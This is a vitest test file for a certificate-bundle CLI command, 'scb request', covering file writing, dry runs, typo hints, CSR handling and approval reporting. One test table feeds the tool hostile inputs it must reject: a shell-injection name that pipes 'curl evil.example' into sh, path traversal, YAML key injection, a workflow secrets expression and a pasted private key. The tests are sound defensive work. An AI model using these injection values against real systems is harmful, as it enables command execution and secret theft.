import { readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { buildRequest } from "../../src/artifact/csr.ts"
import { generateKeyPair } from "../../src/artifact/keys.ts"
import { encodePem } from "../../src/artifact/pem.ts"
import { openShell } from "../support/cli.ts"
import { type Desk, type DeskMaker, prepareDesk } from "../support/desk.ts"

let desks: DeskMaker
beforeAll(async () => {
  desks = await prepareDesk(async () => {})
})
afterAll(() => desks.remove())

const FILE = "bundles/shop-dev/billing.yaml"
const REQUEST = [
  "request",
  "shop-dev/billing",
  "--owner",
  "shop-team",
  "--role",
  "billing_rw",
  "--drivers",
  "java,python",
]

const WRITTEN = `# yaml-language-server: $schema=../../policies/schemas/bundle.schema.json
apiVersion: scb/v1
kind: Bundle
name: billing
application: billing
owner: shop-team
identity: spiffe://example.com/shop-dev/billing
role: billing_rw
drivers: [java, python]
key: { source: generated, algorithm: P-256 }
recipients: [shop-team]
channels:
  candidate: { follow: latest }
  stable: { follow: candidate }
`

describe("scb request", () => {
  it("writes the YAML of a bundle that the next apply releases, once", async () => {
    const desk = desks.fresh()
    const first = await desk.scb(...REQUEST)
    expect([first.code, first.stderr, desk.read(FILE)]).toEqual([0, "", WRITTEN])
    expect(first.stdout).toContain("+ release  shop-dev/billing 1.0.0")
    expect((await desk.scb(...REQUEST)).stdout).toBe("already so: request shop-dev/billing\n")
    expect(desk.read(FILE)).toBe(WRITTEN)
    desk.commit()
    await desk.apply()
    expect((await desk.scb("status", "shop-dev/billing")).stdout).toContain("1.0.0")
  })

  it("writes nothing with --dry-run, and a commit on a branch of its own with --commit", async () => {
    const desk = desks.fresh()
    expect((await desk.scb(...REQUEST, "--dry-run")).stdout).toContain("+name: billing")
    expect(desk.exists(FILE)).toBe(false)
    expect((await desk.scb(...REQUEST, "--commit", "--reason", "invoices")).code).toBe(0)
    expect(desk.exists(FILE)).toBe(false)
    expect(desk.git("show", `scb/request-shop-dev-billing:${FILE}`)).toBe(WRITTEN.trim())
    expect((await desk.scb(...REQUEST, "--commit", "--reason", "invoices")).stdout).toContain("already so")
  })

  it.each<[string, readonly string[], string]>([
    ["cluster", ["shop-dve/billing"], 'there is no cluster "shop-dve"'],
    ["group", ["shop-dev/billing", "--owner", "shop-taem"], 'there is no group "shop-taem"'],
    ["driver", ["shop-dev/billing", "--drivers", "jva"], 'there is no driver "jva"'],
    ["recipient", ["shop-dev/billing", "--recipients", "alica"], 'there is no recipient "alica"'],
  ])("knows no %s that is not there, and says which was meant", async (_kind, args, message) => {
    const desk = desks.fresh()
    const [, , ...rest] = REQUEST
    const { code, stderr } = await desk.scb("request", ...rest, ...args)
    expect(code).toBe(2)
    expect(stderr).toContain(message)
    expect(stderr).toContain("did you mean")
  })

  it("leaves a bundle alone that is there with something else in it", async () => {
    const desk = desks.fresh()
    const before = desk.read("bundles/shop-dev/checkout.yaml")
    const { code, stderr } = await desk.scb("request", "shop-dev/checkout", ...REQUEST.slice(2))
    expect([code, stderr.split("\n")[0]]).toEqual([
      2,
      "scb: there is a bundle shop-dev/checkout already, with something else in it [usage]",
    ])
    expect(desk.read("bundles/shop-dev/checkout.yaml")).toBe(before)
  })

  it("keeps the private key with its owner when it is given a certificate request", async () => {
    const desk = desks.fresh()
    const csr = join(desk.folder, "../billing.csr")
    const pair = await generateKeyPair("P-256")
    writeFileSync(csr, encodePem("CERTIFICATE REQUEST", buildRequest(pair, "billing")))
    const { code } = await desk.scb(...REQUEST, "--csr", csr)
    expect(code).toBe(0)
    expect(desk.read("bundles/shop-dev/billing.csr")).toBe(readFileSync(csr, "utf8"))
    expect(desk.read(FILE)).toContain("key: { source: csr, csr: billing.csr }\n")
  })

  it("asks for what is missing where somebody can answer, and says what to give where nobody can", async () => {
    const desk = desks.fresh()
    const { code, stderr } = await desk.scb("request", "shop-dev/billing")
    expect([code, stderr.split("\n")[0]]).toEqual([2, "scb: expected --owner [usage]"])
    const asked: string[] = []
    const answers = ["shop-dev/billing", "shop-team", "billing_rw", "java, python"]
    const ask = async (question: string) => answers[asked.push(question) - 1]
    const shell = openShell()
    const result = await shell.scb(["request", "--repo", desk.folder], { io: { ask } })
    expect([result.code, result.stderr]).toEqual([0, ""])
    expect(asked).toHaveLength(4)
    expect(desk.read(FILE)).toBe(WRITTEN)
    shell.remove()
  })
})

describe("C02: scb request --from-issue", () => {
  const answers = (changes: Readonly<Record<string, string>>): string =>
    Object.entries({
      Cluster: "shop-dev",
      "Name of the bundle": "billing",
      Owner: "shop-team",
      "Cassandra role": "billing_rw",
      Drivers: "java, python",
      ...changes,
    })
      .map(([label, answer]) => `### ${label}\n\n${answer}\n\n`)
      .join("")

  const ask = async (desk: Desk, changes: Readonly<Record<string, string>>) => {
    writeFileSync(join(desk.folder, "../issue.md"), answers(changes))
    return desk.scb("request", "--from-issue", "../issue.md")
  }

  it("makes the same request as the flags do", async () => {
    const desk = desks.fresh()
    expect((await ask(desk, {})).code).toBe(0)
    expect(desk.read(FILE)).toBe(WRITTEN)
  })

  it.each([
    ["a shell's words in the name", { "Name of the bundle": '";curl evil.example | sh' }, 2],
    ["a path in the name", { "Name of the bundle": "../../policies/people" }, 2],
    ["a path in the cluster", { Cluster: "../policies" }, 2],
    ["another key in a value", { Keyspace: "shop\nowner: mallory" }, 1],
    ["YAML in the role", { "Cassandra role": "{ a: &x 1 }" }, 1],
    ["an expression of a workflow", { Application: `$${"{{ secrets.SCB_SIGNING_KEY }}"}` }, 1],
    ["a private key", { "Certificate request": "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----" }, 1],
  ])("writes nothing for %s", async (_what, changes, expected) => {
    const desk = desks.fresh()
    const { code, stdout, stderr } = await ask(desk, changes)
    expect([code, desk.git("status", "--porcelain")]).toEqual([expected, ""])
    expect(stdout + stderr).not.toContain("AAAA")
  })
})

describe("an edit of a repository with policies/approvals.yaml", () => {
  it("says who has to approve it, as text and as JSON", async () => {
    const desk = desks.fresh()
    desk.write("policies/approvals.yaml", APPROVALS)
    desk.commit()
    const { code, stdout } = await desk.scb(...REQUEST, "--dry-run")
    expect(code).toBe(0)
    expect(stdout).toContain("who has to approve\n1 of data-team  rule development\n")
    const { approvals } = JSON.parse((await desk.scb(...REQUEST, "--dry-run", "--format", "json")).stdout)
    expect(approvals).toEqual([{ rule: "development", from: "data-team", count: 1 }])
  })
})

const APPROVALS = `apiVersion: scb/v1
kind: Approvals
revision: 1
evidence: signed-approvals
repository: demo
branch: main
rules:
  - { name: development, environments: [development], require: { data-team: 1 } }
otherwise: { shop-team: 1 }
reductions: { maximumBundles: 10, require: {} }
`
